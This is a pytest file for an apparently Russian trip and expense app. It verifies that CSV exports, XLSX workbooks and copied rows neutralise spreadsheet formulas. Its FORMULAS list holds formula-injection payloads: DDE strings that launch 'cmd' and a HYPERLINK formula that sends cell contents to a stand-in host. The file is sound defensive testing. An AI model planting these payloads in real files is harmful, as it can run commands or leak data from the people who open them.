"""No formula out of the data ever runs: in tables, workbooks, copied rows."""

import csv
import io
import zipfile
from dataclasses import replace
from datetime import timedelta
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.domain.expense import Expense, ExpenseKind
from core.domain.ids import new_id
from core.services.importing import import_files
from core.services.importing.cells import guarded, text_of
from core.services.keeping.exporting import export
from core.services.looking.reporting import day_period, report_of_period
from core.services.money import expenses
from core.store import queries
from tests.builders import NOW
from tests.desks import a_desk, send
from ui.panels.table_view import excel_safe
from ui.papers import write_expenses, write_report

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"ok")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=1+1",
    "＝1+1",
)
BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


@pytest.fixture
def desks(tmp_path):
    opened = [a_desk(tmp_path / "one"), a_desk(tmp_path / "two")]
    yield opened
    for desk in opened:
        desk.close()


def fill(desk):
    """A trip whose every word is a formula."""
    sent = send(desk, "417 AK 07", ("departed", "20.11 01:00", {"text": FORMULAS[0]}))
    with desk.store.unit_of_work(desk.author, desk.clock) as uow:
        uow.customers.put(replace(sent.customer, name=FORMULAS[1]))
        uow.drivers.put(replace(sent.driver, name=FORMULAS[2]))
        uow.trips.put(replace(sent.trip, destination=FORMULAS[4], origin=FORMULAS[6]))
        fine = Expense(
            id=new_id(), trip=sent.trip.id, kind=ExpenseKind.FINE, amount=Decimal("1500.50"),
            currency="RUB", at=NOW - timedelta(hours=2), note=FORMULAS[3],
        )  # fmt: skip
        uow.expenses.put(fine)
        uow.expenses.put(replace(fine, id=new_id(), note=FORMULAS[5]))
        uow.commit()
    return sent


def test_that_no_cell_of_the_export_begins_as_a_formula(desks, tmp_path):
    fill(desks[0])
    export(desks[0], tmp_path / "all.zip")
    with zipfile.ZipFile(tmp_path / "all.zip") as archive:
        for name in (n for n in archive.namelist() if n.endswith(".csv")):
            rows = csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig")))
            risky = [c for row in rows for c in row if c.lstrip().startswith(BEGINS)]
            assert risky == [], name


def test_that_what_was_guarded_comes_back_as_it_was(desks, tmp_path):
    one, two = desks
    fill(one)
    export(one, tmp_path / "all.zip")
    assert import_files(two, [tmp_path / "all.zip"], dry_run=False).rejected == ()
    told = []
    for desk in desks:
        with desk.store.reading() as snapshot:
            told.append(
                (
                    [c.name for c in queries.customers(snapshot)],
                    [d.name for d in queries.drivers(snapshot)],
                    [(t.origin, t.destination) for t in queries.trips(snapshot)],
                    sorted((e.note, e.amount, e.at) for e in queries.expenses(snapshot)),
                )
            )
    assert told[0] == told[1]


@pytest.mark.parametrize("write", ["report", "expenses"])
def test_that_a_workbook_holds_words_and_no_formula(desks, tmp_path, write, qapp):
    fill(desks[0])
    path = tmp_path / "paper.xlsx"
    if write == "report":
        write_report(report_of_period(desks[0], *day_period(desks[0])), "ru", path)
    else:
        write_expenses(expenses.period(desks[0], NOW - timedelta(days=9), NOW), "ru", path)
    with zipfile.ZipFile(path) as archive:
        pages = [archive.read(n).decode() for n in archive.namelist() if "worksheets/" in n]
        words = archive.read("xl/sharedStrings.xml").decode()
    assert not [page for page in pages if "<f>" in page or "<hyperlink" in page]
    assert "cmd|" in words


@pytest.mark.parametrize("formula", FORMULAS)
def test_that_a_copied_row_is_pasted_as_words(formula):
    assert excel_safe(formula).startswith("'")


@given(st.text(st.sampled_from("=+-@'\t\r\n ＝a1|") | st.characters(codec="utf-8"), max_size=12))
def test_that_the_guard_of_any_text_is_taken_off_again(text):
    told = " ".join(text.split())
    assert text_of(guarded(told)) == told
    assert not guarded(text).lstrip().startswith(BEGINS)
